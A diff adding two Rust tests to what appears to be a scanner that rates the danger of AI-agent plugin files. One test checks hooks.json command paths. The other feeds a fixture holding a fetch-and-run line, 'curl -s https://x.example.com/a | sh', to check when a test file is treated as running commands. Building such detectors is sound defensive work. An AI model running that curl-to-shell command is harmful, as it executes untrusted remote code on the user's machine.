@@ -201,3 +201,30 @@ fn forty_instructions_that_a_test_writes_for_itself_hide_no_other() {
         assert_eq!(severity(&body), Some(Severity::Danger));
     }
 }
+
+#[test]
+fn a_folder_on_the_way_to_a_hooks_script_is_not_its_index() {
+    let hook =
+        |line: &str| format!(r#"{{"hooks": {{"Stop": [{{"hooks": [{{"type": "command", "command": "{line}"}}]}}]}}}}"#);
+    let severity = |line: &str| {
+        let files = [SKILL, ("hooks/hooks.json", &*hook(line)), ("a/src/cli.js", "1;\n"), ("b/src/index.js", HELPER)];
+        worst(&report(&files)).map(|(severity, _)| severity)
+    };
+    assert_eq!(severity("node ${CLAUDE_PLUGIN_ROOT}/a/src/cli.js"), Some(Severity::Warning));
+    assert_eq!(severity("node ${CLAUDE_PLUGIN_ROOT}/b/src"), Some(Severity::Danger));
+    assert_eq!(severity("node ${CLAUDE_PLUGIN_ROOT}/b/src/"), Some(Severity::Danger));
+    assert_eq!(severity("node ${CLAUDE_PLUGIN_ROOT}/b/src/index.js"), Some(Severity::Danger));
+}
+
+#[test]
+fn commands_that_a_test_only_looks_at_are_not_run() {
+    let judge = ("guard/__tests__/judge.ts", "export const judge = (line: string) => line === '';\n");
+    let weighed = |file: &str, text: &str| worst(&report(&[SKILL, judge, (file, text)])).map(|(severity, _)| severity);
+    let test = "import { expect, it } from 'bun:test';\nimport { judge } from './judge';\nit('x', () => expect(judge('curl -s https://x.example.com/a | sh')).toBe(false));\n";
+    assert_eq!(weighed("guard/__tests__/judge.test.ts", test), Some(Severity::Warning));
+    let runs = format!("import {{ execSync }} from 'node:child_process';\n{test}");
+    assert_eq!(weighed("guard/__tests__/judge.test.ts", &runs), Some(Severity::Danger));
+    assert_eq!(weighed("guard/check.ts", test), Some(Severity::Danger), "no test by its path");
+    let other = test.replace("bun:test", "execa");
+    assert_eq!(weighed("guard/__tests__/judge.test.ts", &other), Some(Severity::Danger));
+}
